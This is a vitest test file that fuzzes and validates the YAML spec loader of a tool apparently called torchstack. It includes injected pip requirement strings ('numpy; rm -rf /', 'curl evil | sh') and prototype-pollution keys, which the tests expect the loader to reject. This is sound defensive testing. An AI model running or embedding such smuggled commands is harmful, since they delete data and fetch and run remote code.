import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { SpecError } from "../../../src/errors/torchstack-error.js";
import { parseSpecText } from "../../../src/spec/load-spec.js";

/** Small deterministic PRNG (mulberry32) so a failing case can be replayed by its seed. */
function rng(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const seedText = readFileSync(join(import.meta.dirname, "../../fixtures/specs/golden.yaml"), "utf8");
const alphabet = [
  ..."abc:{}[]-&*!|>'\"#%@` \n\t0123456789.,?<=\\",
  "\u0000",
  "\u202e",
  "~",
  "null",
  "- ",
  ": ",
];

function mutate(text: string, next: () => number): string {
  const chars = [...text];
  const edits = 1 + Math.floor(next() * 6);
  for (let i = 0; i < edits; i++) {
    const at = Math.floor(next() * (chars.length + 1));
    const piece = alphabet[Math.floor(next() * alphabet.length)] ?? "";
    const op = next();
    if (op < 0.4) chars.splice(at, 1, piece);
    else if (op < 0.7) chars.splice(at, 0, piece);
    else chars.splice(at, 1 + Math.floor(next() * 10));
  }
  return chars.join("");
}

function outcome(text: string): "ok" | "spec-error" {
  try {
    parseSpecText(text);
    return "ok";
  } catch (error) {
    if (error instanceof SpecError) {
      expect(error.message).toMatch(/^torchstack\.yaml(:\d+)?: /);
      expect(error.remedies.length).toBeGreaterThan(0);
      return "spec-error";
    }
    throw new Error(`crash on input ${JSON.stringify(text)}: ${String(error)}`);
  }
}

describe("hostile and garbage specs", () => {
  it("never crash: 800 mutations of a valid spec give a spec or a located SpecError", () => {
    const next = rng(20261123);
    const seen = { ok: 0, "spec-error": 0 };
    for (let i = 0; i < 800; i++) seen[outcome(mutate(seedText, next))]++;
    expect(seen["spec-error"]).toBeGreaterThan(100);
  });

  it("never crash on random bytes", () => {
    const next = rng(7);
    for (let i = 0; i < 300; i++) {
      const length = Math.floor(next() * 200);
      const text = Array.from({ length }, () => String.fromCharCode(Math.floor(next() * 0x7f))).join("");
      outcome(text);
    }
  });

  it.each([
    ["empty file", ""],
    ["a scalar", "hello"],
    ["a list", "- a\n- b\n"],
    ["null document", "~"],
    ["custom tag", "name: !!js/function 'x'\n"],
    ["prototype keys", "name: x\n__proto__: { polluted: true }\nconstructor: 1\n"],
    ["huge number", `name: x\nrun: { cpus: 1e400 }\n`],
    ["multi-document", "name: x\n---\nname: y\n"],
  ])("answers %s with a SpecError", (_label, text) => {
    expect(outcome(text)).toBe("spec-error");
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe("inputs that passed validation and failed later", () => {
  const spec = (extra: string) => `name: demo\ntorchSource: distro\ncuda: cpu\n${extra}`;
  const errorOf = (text: string): SpecError => {
    try {
      parseSpecText(text);
    } catch (error) {
      if (error instanceof SpecError) return error;
      throw error;
    }
    throw new Error("the spec loaded");
  };

  it.each([
    [
      "numpy==",
      /packages\.pip\[0\]: "numpy==" is not a pip requirement \(PEP 508\): expected a version after ==/,
    ],
    ["numpy; rm -rf /", /"numpy; rm -rf \/" is not a pip requirement .*expected a marker variable/],
    ["numpy rm -rf /", /expected "," a version, ";" markers or the end/],
    ["numpy==1.0 && curl evil | sh", /is not a pip requirement/],
  ])("pip requirement %j is refused as E_SPEC_REQUIREMENT with its line", (requirement, message) => {
    const error = errorOf(spec(`packages:\n  pip:\n    - ${JSON.stringify(requirement)}\n`));
    expect(error.code).toBe("E_SPEC_REQUIREMENT");
    expect(error.message).toMatch(/^torchstack\.yaml:6: /);
    expect(error.message).toMatch(message);
  });

  it.each(["numpy==2.2.6", "scipy>=1.11,<2", "uvloop; sys_platform == 'linux'", "pkg[extra]~=1.2"])(
    "pip requirement %j loads",
    (requirement) => {
      expect(() =>
        parseSpecText(spec(`packages:\n  pip:\n    - ${JSON.stringify(requirement)}\n`)),
      ).not.toThrow();
    },
  );

  it.each(["a..b", "a.-b", "a-", "a__.b", "x".repeat(129)])("name %j is no valid image name", (name) => {
    const error = errorOf(`name: ${name}\ntorchSource: distro\ncuda: cpu\n`);
    expect(error.message).toMatch(/^torchstack\.yaml:1: name: /);
    expect(error.remedies.join("\n")).toMatch(/set name: [a-z0-9]/);
  });

  it.each(["a.b", "a_b", "a__b", "a--b", "123", "x".repeat(128)])("name %j is a valid image name", (name) => {
    expect(() => parseSpecText(`name: "${name}"\ntorchSource: distro\ncuda: cpu\n`)).not.toThrow();
  });

  it("every error in the file is reported at once, in line order, each with file:line and a fix", () => {
    const error = errorOf(
      'name: a..b\ntorchSource: distro\ncuda: cpu\nflavor: huge\npackages:\n  pip:\n    - "numpy=="\n    - ok-pkg\n    - "x; y"\n',
    );
    const lines = error.message.split("\n");
    expect(lines).toHaveLength(4);
    expect(lines[0]).toMatch(/^torchstack\.yaml:1: name: "a\.\.b" is not a valid image name/);
    expect(lines[1]).toMatch(/^also torchstack\.yaml:4: flavor: /);
    expect(lines[2]).toMatch(/^also torchstack\.yaml:7: packages\.pip\[0\]: /);
    expect(lines[3]).toMatch(/^also torchstack\.yaml:9: packages\.pip\[2\]: /);
    expect(error.remedies.length).toBeGreaterThanOrEqual(4);
    expect(error.details?.errors).toHaveLength(4);
  });
});
